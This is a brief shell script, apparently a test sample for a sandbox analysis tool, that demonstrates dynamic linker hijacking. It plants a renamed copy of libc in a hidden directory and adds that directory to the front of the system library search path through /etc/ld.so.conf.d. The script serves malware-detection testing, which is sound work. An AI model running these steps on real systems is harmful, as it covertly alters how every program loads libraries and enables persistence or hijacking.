#!/bin/sh
# Dynamic linker hijacking through /etc/ld.so.conf.d: a directory with a fake libc-named library put first in the search path.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /usr/local/lib/.sys
cp /lib/x86_64-linux-gnu/libc.so.6 /usr/local/lib/.sys/libpam.so.0
echo /usr/local/lib/.sys > /etc/ld.so.conf.d/00-sys.conf
/sbin/ldconfig 2>/dev/null || true
cat /etc/ld.so.conf.d/00-sys.conf
